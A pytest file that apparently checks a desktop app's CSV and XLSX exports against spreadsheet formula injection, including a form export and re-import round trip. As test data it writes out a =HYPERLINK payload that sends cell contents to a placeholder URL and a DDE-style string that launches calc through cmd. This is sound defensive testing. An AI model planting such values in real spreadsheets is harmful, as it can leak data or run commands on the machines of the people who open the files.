"""No export turns user text into a live formula: every CSV and XLSX path, read back.

A roster station (and a town) named ``=HYPERLINK(...)``, a form and an item titled
with a leading ``= + - @``: in XLSX the cell is a string holding ``'=...``, never a
formula; in CSV the field starts with ``'``. A form exported and imported again keeps
its exact titles.
"""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "coverage"))

from coverage_dataset import AS_OF, T1, V1, YEAR, make_sqlite  # noqa: E402

from fengqiao_desktop.formengine.item_history import ScoredVisit  # noqa: E402
from fengqiao_desktop.formengine.lineage import Lineage  # noqa: E402
from fengqiao_desktop.formengine.loader import parse_form  # noqa: E402
from fengqiao_desktop.formengine.scoring import Answer  # noqa: E402
from fengqiao_desktop.formengine.xlsx_export import export_form  # noqa: E402
from fengqiao_desktop.formengine.xlsx_import import import_sheet  # noqa: E402
from fengqiao_desktop.reports.coverage_csv import write_coverage_csv  # noqa: E402
from fengqiao_desktop.reports.coverage_xlsx import write_coverage_xlsx  # noqa: E402
from fengqiao_desktop.reports.item_results import write_item_results  # noqa: E402
from fengqiao_desktop.services import coverage  # noqa: E402

EVIL = '=HYPERLINK("http://x"&A1,"y")'
EVIL_TOWN = "@SUM(1+1)*cmd|' /C calc'!A0"

FORM = """
id: evil-sheet
version: "1"
title: {zh: "=1+2 考评表", en: "+evil"}
kind: rubric
levels: [village]
pass_mark: 1
sections:
  - id: A
    title: {zh: "-阵地", en: "@premises"}
    items:
      - {id: A1, title: {zh: '=HYPERLINK("http://x"&A1,"y")', en: x}, type: graded, max: 4,
         guidance: "-2 分：缺少台账"}
"""


def _all_cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def _assert_no_formula(path: Path) -> list[str]:
    """Every cell of the workbook is data, none a formula; returns the text cells."""
    wb = openpyxl.load_workbook(path)  # not data_only: a formula would read back as "=..."
    texts = []
    for cell in _all_cells(wb):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (cell.coordinate, cell.value)
            texts.append(cell.value)
    return texts


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    from fengqiao_desktop import config
    from fengqiao_desktop.merge import models
    from fengqiao_desktop.merge.db import open_central

    folder = tmp_path_factory.mktemp("cov")
    config.set_data_dir(folder / "data")
    try:
        url = make_sqlite(folder)
        c = open_central(url, register_shipped_forms=False)
        st = models.table_of(models.Station)
        with c.write() as conn:
            conn.execute(update(st).where(st.c.code == V1).values(name=EVIL))
            conn.execute(update(st).where(st.c.code == T1).values(name=EVIL_TOWN))
        c.dispose()
        yield coverage.coverage_report(year=YEAR, url=url, as_of=AS_OF)
    finally:
        config.set_data_dir(None)


def test_coverage_xlsx_holds_the_hostile_names_as_text(hostile_report, tmp_path):
    texts = _assert_no_formula(write_coverage_xlsx(hostile_report, tmp_path / "cov.xlsx"))
    assert "'" + EVIL in texts and "'" + EVIL_TOWN in texts


def test_coverage_csv_quotes_the_hostile_names(hostile_report, tmp_path):
    path = write_coverage_csv(hostile_report, tmp_path / "cov.csv")
    fields = [f for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for f in row]
    assert "'" + EVIL_TOWN in fields  # the town is a row of the summary
    assert not [f for f in fields if f.startswith(("=", "+", "@", "\t", "\r"))]
    # numbers stay numbers (no quote in front of a count)
    assert any(f.isdigit() for f in fields)


def _lineage_and_visits():
    form = parse_form(FORM)
    visits = [
        ScoredVisit("=1+1", "2026-05-01", "1", {"A1": Answer(3)}),
        ScoredVisit("620102001001", "2026-05-02", "1", {"A1": Answer(2)}),
    ]
    return Lineage([form]), visits


def test_item_results_csv_quotes_hostile_text(tmp_path):
    lineage, visits = _lineage_and_visits()
    path = write_item_results(lineage, visits, tmp_path / "items.csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert rows[0][4] == "A1 " + EVIL  # a label led by its item number is not a formula
    assert rows[1][0] == "'=1+1"
    assert rows[1][3] == "3" and rows[2][0] == "620102001001"


def test_item_results_xlsx_holds_hostile_text_as_strings(tmp_path):
    lineage, visits = _lineage_and_visits()
    path = write_item_results(lineage, visits, tmp_path / "items.xlsx")
    texts = _assert_no_formula(path)
    assert "'=1+1" in texts
    ws = openpyxl.load_workbook(path).active
    assert ws.cell(2, 4).value == 3 and ws.cell(2, 4).data_type == "n"


def test_form_workbook_is_safe_and_round_trips(tmp_path):
    form = parse_form(FORM)
    path = export_form(form, tmp_path / "form.xlsx")
    texts = _assert_no_formula(path)
    assert "'" + EVIL in texts and "'=1+2 考评表" in texts and "'-2 分：缺少台账" in texts
    back = import_sheet(path)
    assert back.ok, back.lines()
    assert back.form.title.zh == "=1+2 考评表" and back.form.sections[0].title.zh == "-阵地"
    assert back.form.sections[0].items[0].title.zh == EVIL
    assert back.form.sha256 == form.sha256
